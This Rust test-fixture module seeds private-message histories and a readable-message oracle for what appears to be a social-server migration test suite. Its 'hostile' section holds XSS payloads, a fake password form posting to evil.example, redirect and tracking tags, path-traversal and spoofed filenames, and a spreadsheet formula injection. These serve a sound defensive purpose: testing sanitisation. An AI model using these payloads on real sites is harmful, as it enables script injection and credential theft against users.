//! Private messages in all the ways that make them hard to find (facts 13.1): an account of the measured shape, a small one, a hostile one, and one of any size;
//! and the oracle, which knows what a reader may read without asking anything.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::{Value, json};

use crate::clock::{DAY, HOUR, MINUTE, Millis};
use crate::federation::{blank_account, resolve};
use crate::seed;
use crate::social::{self, Draft, post};
use crate::state::{Elsewhere, Emoji, Id, Media, MediaKind, Poll, Side, Status, Visibility, World};

/// What an account has received and sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Shape {
    /// That of facts 13.1: 571 messages, 210 sent and 361 received, in 60 threads.
    Full,
    /// A dozen messages with three people, one of whom was never answered.
    Small,
    /// Messages of somebody who means harm.
    Hostile,
    /// Equal conversations with many people.
    Large { messages: usize, conversations: usize },
}

/// Gives `user` of `side` (made if nobody has that name) a correspondence of this shape.
pub fn give(world: &mut World, side: Side, user: &str, shape: Shape) -> Id {
    let owner = match seed::local(world, side, user) {
        Some(owner) => owner,
        None => seed::person(world, side, user, &capital(user)),
    };
    match shape {
        Shape::Full => full(world, side, owner),
        Shape::Small => small(world, side, owner),
        Shape::Hostile => hostile(world, side, owner),
        Shape::Large { messages, conversations } => large(world, side, owner, messages, conversations),
    }
    owner
}

/// The people whom every run begins with: Mia, Mia's and Noa's new homes, and Noa, who only redirects (facts 13.1 point 10).
pub fn seed(world: &mut World) {
    let domain = world.server(Side::New).domain.clone();
    for name in ["mia", "noa"] {
        seed::person(world, Side::New, name, &capital(name));
    }
    give(world, Side::Old, "mia", Shape::Full);
    seed::alias_for(world, "mia", "mia");
    give(world, Side::Old, "noa", Shape::Small);
    if let Some(noa) = seed::local(world, Side::Old, "noa") {
        let _ = crate::moves::redirect_only(world, Side::Old, noa, &format!("noa@{domain}"), seed::PASSWORD);
    }
}

fn capital(name: &str) -> String {
    let mut letters = name.chars();
    letters.next().map_or_else(String::new, |first| first.to_uppercase().chain(letters).collect())
}

/// One message as the oracle knows it.
#[derive(Clone, Debug)]
pub struct Truth {
    pub id: Id,
    pub uri: String,
    /// `name@domain`
    pub author: String,
    pub sent: bool,
    pub thread: Id,
    pub attachments: Vec<Attached>,
}

#[derive(Clone, Debug)]
pub struct Attached {
    pub id: Id,
    pub url: String,
    /// Of the bytes as they are served.
    pub sha256: String,
}

/// Every direct message that `reader` may read, oldest first: neither deleted nor by a suspended author.
pub fn oracle(world: &World, side: Side, reader: Id) -> Vec<Truth> {
    let server = world.server(side);
    server
        .statuses
        .values()
        .filter(|status| {
            status.visibility == Visibility::Direct && social::may_read(server, status, Some(reader))
        })
        .map(|status| Truth {
            id: status.id,
            uri: status.uri.clone(),
            author: server.full_acct(status.author),
            sent: status.author == reader,
            thread: status.thread,
            attachments: status
                .media
                .iter()
                .map(|media| Attached {
                    id: media.id,
                    url: crate::media::address(server, media, "original"),
                    sha256: crate::media::checksum(media),
                })
                .collect(),
        })
        .collect()
}

/// The oracle's answer for the control path.
pub fn oracle_json(world: &World, side: Side, reader: Id) -> Value {
    let all = oracle(world, side, reader);
    let sent = all.iter().filter(|truth| truth.sent).count();
    let threads: BTreeSet<Id> = all.iter().map(|truth| truth.thread).collect();
    let messages: Vec<Value> = all
        .iter()
        .map(|truth| {
            let attachments: Vec<Value> = truth
                .attachments
                .iter()
                .map(|file| json!({ "id": file.id.to_string(), "url": file.url, "sha256": file.sha256 }))
                .collect();
            json!({ "id": truth.id.to_string(), "uri": truth.uri, "author": truth.author, "sent": truth.sent, "thread": truth.thread.to_string(), "attachments": attachments })
        })
        .collect();
    json!({ "messages": messages, "sent": sent, "received": all.len() - sent, "threads": threads.len() })
}

/// Everybody whom the correspondences are with; made once for all owners of a world.
struct People {
    /// Followed, and nothing is the matter with them; the last two are of another server.
    friends: [Id; 7],
    /// Muted with notifications hidden.
    samir: Id,
    /// Blocked.
    tilda: Id,
    /// A stranger of this server.
    ugo: Id,
    /// Muted, plainly; of another server.
    xenia: Id,
    /// Strangers of another server.
    yusuf: Id,
    zora: Id,
    /// Has blocked the owner.
    anton: Id,
    /// A stranger whose request was dismissed; met nowhere else, follows nobody.
    bela: Id,
    /// Suspended.
    sorin: Id,
}

const FAR: &str = "far.example";

fn here(world: &mut World, side: Side, name: &str) -> Id {
    match seed::local(world, side, name) {
        Some(id) => id,
        None => seed::person(world, side, name, &capital(name)),
    }
}

fn far(world: &mut World, side: Side, name: &str, domain: &str) -> Id {
    if !world.elsewhere.iter().any(|person| person.username == name && person.domain == domain) {
        world.elsewhere.push(Elsewhere {
            username: name.to_owned(),
            domain: domain.to_owned(),
            display_name: capital(name),
            follows_moves: true,
            locked: false,
            moved_to: None,
            gone: None,
        });
    }
    resolve(world, side, &format!("{name}@{domain}"), false).unwrap_or_default()
}

impl People {
    fn of(world: &mut World, side: Side) -> Self {
        let people = Self {
            friends: [
                here(world, side, "olga"),
                here(world, side, "otto"),
                here(world, side, "pavel"),
                here(world, side, "quinn"),
                here(world, side, "renate"),
                far(world, side, "vera", FAR),
                far(world, side, "willy", FAR),
            ],
            samir: here(world, side, "samir"),
            tilda: here(world, side, "tilda"),
            ugo: here(world, side, "ugo"),
            xenia: far(world, side, "xenia", FAR),
            yusuf: far(world, side, "yusuf", FAR),
            zora: far(world, side, "zora", FAR),
            anton: here(world, side, "anton"),
            bela: far(world, side, "bela", FAR),
            sorin: here(world, side, "sorin"),
        };
        let server = world.server_mut(side);
        if server.emojis.is_empty() {
            for (number, name) in [(1, "blobcat"), (2, "radio")] {
                server.emojis.push(Emoji {
                    shortcode: name.to_owned(),
                    url: format!(
                        "/custom_emojis/images/000/000/{number:03}/original/72fe586829d89d1{number}.png"
                    ),
                });
            }
        }
        people
    }
}

/// One message to be. Parents stand before their answers.
#[derive(Debug)]
struct Line {
    at: Millis,
    author: Id,
    to: Vec<Id>,
    parent: Option<usize>,
    /// Arrived before its parent: the line whose thread it belongs to.
    lost: Option<usize>,
    draft: Draft,
    /// Its author takes it back in the end.
    deleted: bool,
}

/// All messages of an owner before they are posted in the order of their times, so that ids and notifications come as they would.
struct Plan {
    lines: Vec<Line>,
    at: Millis,
    owner: Id,
    seed: u64,
}

/// Words that have caused trouble somewhere: quotes, markup, other directions, characters of four bytes.
const WORDS: [&str; 24] = [
    "garden",
    "thanks",
    "late",
    "book",
    "party",
    "привет",
    "key",
    "window",
    "sorry",
    "50%",
    "C:\\path",
    "東京",
    "🎉",
    "friday",
    "\"quoted\"",
    "مرحبا",
    "a&b",
    "music",
    "<b>bold</b>",
    "cake",
    "shed",
    "see you",
    "&amp;",
    "naïve",
];

impl Plan {
    fn new(owner: Id, at: Millis) -> Self {
        Self { lines: Vec::new(), at, owner, seed: 571 }
    }

    fn random(&mut self, below: usize) -> usize {
        // Knuth's linear congruence: the same world every time.
        self.seed = self.seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.seed >> 33).unwrap_or(0) % below.max(1)
    }

    fn text(&mut self) -> String {
        let number = self.lines.len() + 1;
        let count = 3 + self.random(9);
        let mut text = format!("m{number:03}");
        for _ in 0..count {
            let word = self.random(WORDS.len());
            text.push(if self.random(12) == 0 { '\n' } else { ' ' });
            text.push_str(WORDS.get(word).copied().unwrap_or("word"));
        }
        text
    }

    fn thread(&mut self, at: Millis) {
        self.at = at;
    }

    fn say(&mut self, author: Id, to: &[Id], parent: Option<usize>) -> usize {
        let hours = 1 + self.random(9);
        self.at += Millis::try_from(hours).unwrap_or(1) * HOUR + 7 * MINUTE;
        let text = self.text();
        let draft = Draft { text, visibility: Some(Visibility::Direct), ..Draft::default() };
        let (at, to) = (self.at, to.to_vec());
        self.lines.push(Line { at, author, to, parent, lost: None, draft, deleted: false });
        self.lines.len() - 1
    }

    fn line(&mut self, at: usize) -> Option<&mut Line> {
        self.lines.get_mut(at)
    }

    /// A conversation of two: so many messages of the owner's and of the other's, mixed, with a side branch now and then.
    fn pair(
        &mut self,
        other: Id,
        own: usize,
        theirs: usize,
        owner_begins: bool,
        from: Option<usize>,
    ) -> Vec<usize> {
        let owner = self.owner;
        let (mut own, mut theirs) = (own, theirs);
        let mut all: Vec<usize> = Vec::new();
        let mut turn = owner_begins;
        while own + theirs > 0 {
            let mine = (turn && own > 0) || theirs == 0;
            let parent = match all.last().copied() {
                None => from,
                Some(last) if self.random(5) > 0 => Some(last),
                Some(_) => {
                    let earlier = self.random(all.len());
                    all.get(earlier).copied()
                }
            };
            let line =
                if mine { self.say(owner, &[other], parent) } else { self.say(other, &[owner], parent) };
            all.push(line);
            if mine {
                own -= 1
            } else {
                theirs -= 1
            }
            turn = own * 10 > (own + theirs) * self.random(10);
        }
        all
    }

    /// Posts everything and says which status each line has become.
    fn carry_out(self, world: &mut World, side: Side) -> Vec<Option<Id>> {
        let mut order: Vec<usize> = (0..self.lines.len()).collect();
        order.sort_by_key(|index| self.lines.get(*index).map(|line| line.at));
        let mut made: Vec<Option<Id>> = vec![None; self.lines.len()];
        let mut lines: Vec<Option<Line>> = self.lines.into_iter().map(Some).collect();
        let mut deleted = Vec::new();
        for index in order {
            let Some(line) = lines.get_mut(index).and_then(Option::take) else { continue };
            let id_of = |line: Option<usize>| line.and_then(|line| made.get(line).copied().flatten());
            let lost = id_of(line.lost).and_then(|id| world.server(side).statuses.get(&id));
            let draft = Draft {
                mentions: line.to,
                in_reply_to: id_of(line.parent),
                thread: lost.map(|status| status.thread),
                ..line.draft
            };
            let id = post(world, side, line.author, line.at, draft);
            if let Some(slot) = made.get_mut(index) {
                *slot = id;
            }
            if line.deleted {
                deleted.extend(id);
            }
        }
        for id in deleted {
            social::delete_status(world, side, id);
        }
        made
    }
}

/// The measured shape. The numbers are those of the table in facts 13.1; `tests/messages_13_1.rs` walks its roads.
fn full(world: &mut World, side: Side, owner: Id) {
    let people = People::of(world, side);
    let now = world.now();
    let begin = now - 330 * DAY;
    let mut plan = Plan::new(owner, begin);
    let friend = |number: usize| people.friends.get(number % 7).copied().unwrap_or_default();
    for other in people.friends.into_iter().chain([
        people.xenia,
        people.samir,
        people.tilda,
        people.anton,
        people.sorin,
    ]) {
        social::follow(world, side, owner, other, true, false, &[]);
    }
    for number in [0, 1, 5] {
        world.server_mut(side).follow(friend(number), owner, true, false, Vec::new());
    }
    // Threads begin all over the year; which one when does not matter, but it is always the same.
    let mut number = 0_i64;
    let mut start = |plan: &mut Plan| {
        number += 1;
        plan.thread(begin + (number * 17 % 61) * 4 * DAY + number * HOUR);
    };

    // Twenty-four with friends: 94 sent, 166 received, and what is said under each "if" beside them.
    for k in 0..24 {
        start(&mut plan);
        let other = friend(k);
        let vary = |list: [usize; 4]| if k < 20 { list.get(k % 4).copied().unwrap_or(0) } else { 2 };
        let (own, theirs) = if k < 22 { (2 + vary([3, 1, 2, 2]), 5 + vary([4, 0, 3, 1])) } else { (3, 6) };
        let mut from = None;
        if [3, 9, 15].contains(&k) {
            // Cut: what stands above the deleted message is reached from below no more (point 4).
            let above = plan.pair(other, 4, 4, false, None);
            let cut = plan.say(other, &[owner], above.last().copied());
            if let Some(line) = plan.line(cut) {
                line.deleted = true;
            }
            from = Some(cut);
        }
        let all = plan.pair(other, own, theirs, k % 3 == 0, from);
        if [5, 6, 12, 13, 19].contains(&k) {
            // Of another server, and here before its parent (point 5).
            let (Some(first), Some(middle)) = (all.first().copied(), all.get(all.len() / 2).copied()) else {
                continue;
            };
            let lost = plan.say(other, &[owner], None);
            let at = plan.lines.get(middle).map_or(begin, |line| line.at) + MINUTE;
            if let Some(line) = plan.line(lost) {
                (line.lost, line.at) = (Some(first), at);
            }
        }
        if k == 10 {
            // A leaf taken back leaves no trace.
            let leaf = plan.say(other, &[owner], all.last().copied());
            if let Some(line) = plan.line(leaf) {
                line.deleted = true;
            }
        }
    }
    // Five never answered.
    for (k, count) in [1, 1, 1, 2, 1].into_iter().enumerate() {
        start(&mut plan);
        let mut last = None;
        for _ in 0..count {
            last = Some(plan.say(friend(k + 2), &[owner], last));
        }
    }
    // Two notes to oneself.
    start(&mut plan);
    let note = plan.say(owner, &[], None);
    plan.say(owner, &[], Some(note));
    start(&mut plan);
    plan.say(owner, &[], None);
    // Six groups, each several conversations, one for each set of participants (point 5).
    for g in 0..6 {
        start(&mut plan);
        let (a, b) = (friend(g), friend(g + 1));
        let root = plan.say(owner, &[a, b], None);
        let first = plan.say(a, &[owner, b], Some(root));
        let second = plan.say(b, &[owner, a], Some(first));
        let again = plan.say(owner, &[a, b], Some(second));
        let aside = plan.say(a, &[owner], Some(again));
        plan.say(owner, &[a], Some(aside));
        if g < 4 {
            let mut above = root;
            if g == 0 {
                // Between the two others: an answer to it is for the owner again, its parent never.
                above = plan.say(a, &[b], Some(again));
            }
            plan.say(b, &[owner, a], Some(above));
            plan.say(a, &[owner], Some(aside));
        } else {
            plan.say(b, &[owner], Some(root));
            plan.say(a, &[owner, b], Some(again));
        }
    }
    // Two that begin with a public post.
    for (first, second) in [(friend(0), owner), (owner, friend(1))] {
        start(&mut plan);
        let root = plan.say(first, &[], None);
        if let Some(line) = plan.line(root) {
            line.draft.visibility = Some(Visibility::Public);
        }
        let one = plan.say(second, &[first], Some(root));
        let two = plan.say(first, &[second], Some(one));
        let three = plan.say(second, &[first], Some(two));
        plan.say(first, &[second], Some(three));
    }
    // One who blocks the owner in the end (point 7).
    start(&mut plan);
    plan.pair(people.anton, 3, 4, true, None);
    // One muted plainly: in the list, in no context (point 3).
    for count in [37, 36] {
        start(&mut plan);
        let mut last = None;
        for turn in 0..count {
            last = Some(if turn % 2 == 0 {
                plan.say(people.xenia, &[owner], last)
            } else {
                plan.say(owner, &[people.xenia], last)
            });
        }
    }
    // One suspended: the answers remain (point 7).
    start(&mut plan);
    let hello = plan.say(owner, &[people.sorin], None);
    let answer = plan.say(people.sorin, &[owner], Some(hello));
    let more = plan.say(people.sorin, &[owner], Some(answer));
    plan.say(owner, &[people.sorin], Some(more));
    // One blocked: 21 received, 12 sent; the third thread is a group, whose conversation goes as well (point 2).
    for _ in 0..2 {
        start(&mut plan);
        plan.pair(people.tilda, 4, 7, true, None);
    }
    start(&mut plan);
    let both = [people.tilda, friend(0)];
    let mut last = plan.say(owner, &both, None);
    for turn in 0..3 {
        last = plan.say(people.tilda, &[owner, friend(0)], Some(last));
        plan.say(people.tilda, &[owner, friend(0)], Some(last));
        if turn < 2 {
            last = plan.say(friend(0), &[owner, people.tilda], Some(last));
        }
        last = plan.say(owner, &both, Some(last));
    }
    plan.say(people.tilda, &[owner, friend(0)], Some(last));
    // One muted with notifications hidden: 13 received, 8 sent.
    for theirs in [7, 6] {
        start(&mut plan);
        plan.pair(people.samir, 4, theirs, true, None);
    }
    // Six whose conversations the owner has deleted (point 9).
    let mut removed = Vec::new();
    for (k, theirs) in [7, 7, 6, 6, 6, 6].into_iter().enumerate() {
        start(&mut plan);
        removed.extend(plan.pair(friend(k + 1), 3, theirs, k % 2 == 0, None).first().copied());
    }
    // Strangers (point 1); the last one's request is dismissed.
    for (stranger, count) in [
        (people.ugo, 5),
        (people.yusuf, 2),
        (people.zora, 5),
        (people.zora, 4),
        (people.bela, 4),
        (people.bela, 3),
    ] {
        start(&mut plan);
        let mut last = None;
        for _ in 0..count {
            last = Some(plan.say(stranger, &[owner], last));
        }
    }
    public_posts(&mut plan, &people, begin);
    adorn(world, side, &mut plan, &people, now);
    let made = plan.carry_out(world, side);

    social::mute(world, side, owner, people.xenia, false, None);
    social::mute(world, side, owner, people.samir, true, None);
    social::block(world, side, owner, people.tilda);
    social::block(world, side, people.anton, owner);
    for id in removed.into_iter().filter_map(|line| made.get(line).copied().flatten()) {
        let server = world.server_mut(side);
        let Some(thread) = server.statuses.get(&id).map(|status| status.thread) else { continue };
        let entry = server.conversations.of(owner).find(|entry| entry.thread == thread).map(|entry| entry.id);
        if let Some(entry) = entry {
            server.conversations.remove(owner, entry);
        }
    }
    dismiss(world, side, owner, people.bela);
    if let Some(account) = world.server_mut(side).account_mut(people.sorin) {
        account.suspended = true;
    }
}

/// A dismissed request takes the notifications along (point 1).
fn dismiss(world: &mut World, side: Side, owner: Id, from: Id) {
    let server = world.server_mut(side);
    server.notification_requests.retain(|request| !(request.owner == owner && request.from == from));
    for id in server.notifications.waiting_from(owner, from) {
        server.notifications.remove(owner, id);
    }
}

/// Listings are not only messages: everybody has posted in public too, one of the strangers more than a page.
fn public_posts(plan: &mut Plan, people: &People, begin: Millis) {
    let add = |plan: &mut Plan, author: Id, count: i64| {
        for number in 0..count {
            plan.thread(begin + (number * 37 % 300) * DAY);
            let line = plan.say(author, &[], None);
            if let Some(line) = plan.line(line) {
                let visibility = if number % 4 == 3 { Visibility::Unlisted } else { Visibility::Public };
                line.draft.visibility = Some(visibility);
            }
        }
    };
    add(plan, plan.owner, 19);
    for (author, count) in people.friends.into_iter().zip([9, 4, 0, 12, 3, 30, 7]) {
        add(plan, author, count);
    }
    for (author, count) in [
        (people.samir, 5),
        (people.tilda, 8),
        (people.xenia, 11),
        (people.zora, 45),
        (people.bela, 6),
        (people.anton, 2),
    ] {
        add(plan, author, count);
    }
}

/// Pictures, edits, polls, warnings and emoji, on some of the messages.
fn adorn(world: &mut World, side: Side, plan: &mut Plan, people: &People, now: Millis) {
    let owner = plan.owner;
    let [olga, otto, _, quinn, _, vera, willy] = people.friends;
    // The messages of one author, those first that were said first.
    let of = |plan: &Plan, author: Id| -> Vec<usize> {
        plan.lines
            .iter()
            .enumerate()
            .filter(|(_, line)| {
                line.author == author
                    && !line.deleted
                    && line.draft.visibility == Some(Visibility::Direct)
                    && (author == owner || line.to.contains(&owner))
            })
            .map(|(index, _)| index)
            .collect()
    };
    // Nineteen attachments, seven of them of other servers.
    let mut tint = 10_u8;
    for (author, count) in
        [(owner, 6), (olga, 3), (otto, 1), (people.tilda, 2), (vera, 3), (willy, 2), (people.xenia, 2)]
    {
        let lines = of(plan, author);
        for number in 0..count {
            // Two on one message where there are three.
            let nth = if count == 3 && number == 2 { 1 } else { number };
            let Some(index) = lines.get(nth * lines.len() / count).copied() else { continue };
            let Some(at) = plan.lines.get(index).map(|line| line.at) else { continue };
            tint = tint.wrapping_add(23);
            let server = world.server_mut(side);
            let remote = server.account(author).is_some_and(|account| !account.is_local());
            let id = server.next_snowflake(at - 30_000);
            let description = match number {
                0 => Some("A gradient with \"quotes\" & <b>tags</b>"),
                1 => None,
                _ => Some("zweites Bild, 第二\nsecond line"),
            };
            let mut media = Media::picture(id, tint, description);
            (media.width, media.height) = (24 + u32::from(tint % 40), 16 + u32::from(tint % 30));
            if number % 3 == 2 {
                media.kind = MediaKind::Jpeg;
            }
            if author == owner && number == 1 {
                media.kind = MediaKind::Mp4;
            }
            if remote {
                media.remote_url = Some(format!("https://{FAR}/media/{id}.png"));
                media.cached = !(author == willy && number == 1);
            }
            if let Some(line) = plan.line(index) {
                line.draft.media.push(media);
            }
        }
    }
    // Edited once or twice, with a warning that came and went.
    for (author, versions) in [(olga, 2_i64), (owner, 1), (vera, 1)] {
        if let Some(line) = of(plan, author).get(3).copied().and_then(|index| plan.line(index)) {
            let (at, text) = (line.at, line.draft.text.clone());
            line.draft.earlier = (0..versions)
                .map(|number| {
                    let warning = if number == 1 { "now with a warning" } else { "" };
                    (at + number * HOUR, format!("{text} (version {})", number + 1), warning.to_owned())
                })
                .collect();
            line.draft.edited_at = Some(at + versions * HOUR);
            line.draft.text = format!("{text} (edited)");
        }
    }
    // Polls: one's own, one in which the owner has voted, one still open.
    for (number, author) in [(0_u64, owner), (1, quinn), (2, vera)] {
        let id = 500 + world.server_mut(side).next_number();
        if let Some(line) = of(plan, author).get(5).copied().and_then(|index| plan.line(index)) {
            let votes = if number == 1 { BTreeMap::from([(owner, vec![0, 2])]) } else { BTreeMap::new() };
            line.draft.poll = Some(Poll {
                id,
                multiple: number != 0,
                expires_at: Some(if number == 2 { now + 30 * DAY } else { line.at + DAY }),
                options: vec![
                    ("Red <b>".to_owned(), 1),
                    ("Blue & green".to_owned(), 0),
                    ("None".to_owned(), 1),
                ],
                votes,
            });
        }
    }
    // Warnings, emoji of this server and of another one, and one message longer than this server would let anybody write.
    for (author, nth) in [(owner, 8), (otto, 2), (willy, 4), (people.tilda, 3)] {
        if let Some(line) = of(plan, author).get(nth).copied().and_then(|index| plan.line(index)) {
            line.draft.spoiler = "film, \"spoiler\" & more".to_owned();
        }
    }
    for (author, nth) in [(owner, 10), (quinn, 2), (olga, 6)] {
        if let Some(line) = of(plan, author).get(nth).copied().and_then(|index| plan.line(index)) {
            line.draft.text.push_str(" look :blobcat: and :nosuch:");
        }
    }
    if let Some(line) = of(plan, vera).get(7).copied().and_then(|index| plan.line(index)) {
        line.draft.text.push_str(" :far_star:");
        line.draft.emojis.push(Emoji {
            shortcode: "far_star".to_owned(),
            url: "/cache/custom_emojis/images/000/000/009/original/0b4043e5e8b14ee2.png".to_owned(),
        });
    }
    if let Some(line) = of(plan, willy).get(6).copied().and_then(|index| plan.line(index)) {
        line.draft.text = format!("{} {}", line.draft.text, "a long story, ".repeat(420));
    }
}

/// Twelve messages: two conversations with people one can know, one of a stranger who was never answered (facts 13.1 point 10).
fn small(world: &mut World, side: Side, owner: Id) {
    let people = People::of(world, side);
    let begin = world.now() - 90 * DAY;
    let mut plan = Plan::new(owner, begin);
    let [_, otto, .., vera, _] = people.friends;
    for other in [otto, vera] {
        social::follow(world, side, owner, other, true, false, &[]);
    }
    plan.pair(otto, 3, 3, true, None);
    plan.thread(begin + 20 * DAY);
    let with_picture = plan.pair(vera, 2, 3, false, None);
    plan.thread(begin + 40 * DAY);
    plan.say(people.ugo, &[owner], None);
    let id = world.server_mut(side).next_snowflake(begin);
    if let Some(line) = with_picture.first().copied().and_then(|line| plan.line(line)) {
        let mut media = Media::picture(id, 77, Some("from far away"));
        media.remote_url = Some(format!("https://{FAR}/media/{id}.png"));
        line.draft.media.push(media);
    }
    plan.carry_out(world, side);
}

/// Equal conversations with up to four hundred people of other servers, half of each sent. Built straight into the tables.
pub fn large(world: &mut World, side: Side, owner: Id, messages: usize, conversations: usize) {
    let conversations = conversations.clamp(1, messages.max(1));
    let now = world.now();
    let begin = now - 700 * DAY;
    let server = world.server_mut(side);
    let people: Vec<Id> = (0..conversations.min(400))
        .map(|number| {
            let id = server.next_snowflake(begin);
            let name = format!("p{number:04}");
            let mut account = blank_account(id, &name, Some("crowd.example".to_owned()), begin);
            account.uri = format!("https://crowd.example/users/{name}");
            account.url = format!("https://crowd.example/@{name}");
            account.display_name = format!("Person {number}");
            server.accounts.insert(id, account);
            server.follow(owner, id, true, false, Vec::new());
            id
        })
        .collect();
    let own_uri = server.account(owner).map(|account| account.uri.clone()).unwrap_or_default();
    let mut last: Vec<Option<(Id, Id)>> = vec![None; conversations];
    let step = (699 * DAY) / Millis::try_from(messages.max(1)).unwrap_or(Millis::MAX);
    for number in 0..messages {
        let talk = number % conversations;
        let Some(other) = people.get(talk % people.len().max(1)).copied() else { break };
        let at = begin + Millis::try_from(number).unwrap_or(0) * step;
        let mine = (number / conversations + talk).is_multiple_of(2);
        let (author, to) = if mine { (owner, other) } else { (other, owner) };
        let server = world.server_mut(side);
        let id = server.next_snowflake(at);
        let before = last.get(talk).copied().flatten();
        let thread = before.map_or(id, |(_, thread)| thread);
        let uri = if mine {
            format!("{own_uri}/statuses/{id}")
        } else {
            format!("https://crowd.example/users/p{:04}/statuses/{id}", talk % people.len().max(1))
        };
        let text = format!("message {number} of conversation {talk}, about gardens and old radios");
        let status = Status {
            id,
            author,
            at,
            visibility: Visibility::Direct,
            content: format!("<p>{text}</p>"),
            text,
            spoiler_text: String::new(),
            mentions: vec![to],
            in_reply_to: before.map(|(parent, _)| parent),
            in_reply_to_account: before.map(|_| if mine { other } else { owner }),
            thread,
            url: uri.clone(),
            uri,
            media: if number % 50 == 7 { vec![Media::picture(id + 1, 90, None)] } else { Vec::new() },
            poll: None,
            edited_at: None,
            application: mine,
            editions: Vec::new(),
            emojis: Vec::new(),
            spoilt: None,
        };
        if let Some(slot) = last.get_mut(talk) {
            *slot = Some((id, thread));
        }
        social::store(world, side, status);
    }
}

/// What somebody who means harm, or a broken server, can send. Nothing of it may reach a page as markup, a file system as a path, or a program as a promise.
fn hostile(world: &mut World, side: Side, owner: Id) {
    let mallory = far(world, side, "mallory", "evil.example");
    social::follow(world, side, owner, mallory, true, false, &[]);
    if let Some(account) = world.server_mut(side).account_mut(mallory) {
        account.display_name = "<img src=x onerror=alert(1)>\u{202e}yrollaM\u{200b} :evil:".to_owned();
        account.url = "javascript:alert(document.domain)".to_owned();
        account.note = "]]></script><script>alert(1)</script>".to_owned();
    }
    let begin = world.now() - 30 * DAY;
    let mut number = 0_i64;
    let mut say = |world: &mut World, draft: Draft| {
        number += 1;
        let draft = Draft { visibility: Some(Visibility::Direct), mentions: vec![owner], ..draft };
        post(world, side, mallory, begin + number * HOUR, draft)
    };
    let html =
        |html: &str| Draft { text: "html".to_owned(), html: Some(html.to_owned()), ..Draft::default() };
    for content in [
        "<script>document.title = 'run'; fetch('/auth/edit')</script>",
        "<p><img src=x onerror=\"document.title='run'\"><svg onload=\"document.title='run'\"></svg></p>",
        "<p><a href=\"javascript:alert(1)\">one</a> <a href=\"data:text/html,<script>alert(1)</script>\">two</a> <a href=\" jav&#x09;ascript:alert(1)\">three</a></p>",
        "<iframe src=\"/settings/delete\"></iframe><object data=\"//evil.example\"></object><embed src=\"//evil.example\">",
        "<form action=\"https://evil.example/steal\"><input name=password type=password autofocus><button>Sign in</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=\"https://evil.example/\"><link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>* { display: none } body { background: url(https://evil.example/seen) }</style><p style=\"position:fixed;inset:0;z-index:2147483647;background:red\">all mine</p>",
        "<p onclick=\"alert(1)\" class=\"invisible\" id=\"packed-trunk\" slot=\"x\">attributes</p>",
        "</p></div></body></html><!-- <p> ]]> --><plaintext>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    ] {
        say(world, html(content));
    }
    let plain = |text: &str| Draft { text: text.to_owned(), ..Draft::default() };
    say(
        world,
        plain(
            "invoice\u{202e}gpj.exe zero\u{200b}width\u{feff} \u{2066}isolate line\u{2028}separator \u{0}nul \u{1b}[31mred",
        ),
    );
    say(world, plain("=HYPERLINK(\"https://evil.example\";\"click\")\n+1\n-1\n@SUM(A1)"));
    // Half a megabyte of nested tags.
    say(world, html(&format!("{}deep{}", "<div>".repeat(46_000), "</div>".repeat(46_000))));
    let evil = |shortcode: &str, url: &str| Emoji { shortcode: shortcode.to_owned(), url: url.to_owned() };
    say(
        world,
        Draft {
            text: "emoji :evil: :far: :\"><b: :data:".to_owned(),
            emojis: vec![
                evil("evil", "javascript:alert(1)"),
                evil("far", "https://evil.example/pixel.png"),
                evil("\"><b", "/custom_emojis/images/000/000/001/original/72fe586829d89d19.png"),
                evil("data", "data:image/svg+xml,<svg onload=alert(1)>"),
            ],
            ..Draft::default()
        },
    );
    for (tint, name, description) in [
        (
            1_u8,
            "..%2f..%2f..%2fetc%2fpasswd.png",
            "\" onload=\"alert(1)\" ' ]]> --> </script> \n second line",
        ),
        (2, "%2e%2e%2f%2e%2e%2fmessages.html", "<b>bold</b> &amp; &lt;i&gt;"),
        (3, "CON.png", "a name that Windows keeps for itself"),
        (4, "aux", "the same, without an ending"),
        (5, "nul.tar.gz", "\u{202e}gnp.exe"),
        (6, "trailing.png.%20.", "ends in a dot and a space"),
        (7, "a%00b.png", "a nul in the middle"),
        (8, "picture.png?x=../../y#z", "a query of its own"),
    ] {
        let id = world.server_mut(side).next_snowflake(begin + i64::from(tint) * DAY);
        let mut media = Media::picture(id, tint, Some(description));
        media.remote_url = Some("javascript:alert(1)".to_owned());
        media.file_name = Some(name.to_owned());
        say(world, Draft { media: vec![media], ..plain("a file") });
    }
    say(world, Draft { spoiler: "<img src=x onerror=alert(1)>\u{202e}".to_owned(), ..plain("warned") });
    let options = vec![("<script>alert(1)</script>".to_owned(), u32::MAX), (String::new(), 0)];
    let poll = Poll { id: 666, multiple: true, expires_at: None, options, votes: BTreeMap::new() };
    say(world, Draft { poll: Some(poll), ..plain("a poll") });
    // Fields that are missing or of another kind; a reader must keep what can be kept and go on.
    let first = say(world, plain("the first of two with one id")).unwrap_or_default();
    for spoilt in [
        json!({ "content": null }),
        json!({ "content": { "$remove": true } }),
        json!({ "account": { "$remove": true } }),
        json!({ "account": null }),
        json!({ "account": { "id": 7, "acct": null } }),
        json!({ "created_at": 1_700_000_000 }),
        json!({ "created_at": "yesterday" }),
        json!({ "created_at": "2126-01-01T00:00:00.000Z" }),
        json!({ "mentions": {} }),
        json!({ "media_attachments": "none" }),
        json!({ "media_attachments": [null, 5, { "type": "image" }, { "id": "1", "type": "image", "url": "javascript:alert(1)" }, { "id": "2", "type": "unknown", "url": null }] }),
        json!({ "visibility": "mutuals" }),
        json!({ "in_reply_to_id": 12 }),
        json!({ "in_reply_to_id": "99999999999999999999999" }),
        json!({ "poll": true }),
        json!({ "emojis": null, "tags": null, "edited_at": false }),
        json!({ "uri": "javascript:alert(1)", "url": "javascript:alert(1)" }),
        json!({ "uri": null, "url": null }),
        json!({ "id": first.to_string(), "content": "<p>the second of two with one id</p>" }),
    ] {
        say(world, Draft { spoilt: Some(spoilt), ..plain("spoilt") });
    }
    // And one that is as it should be, to see that it still arrives.
    say(world, plain("all is well"));
}
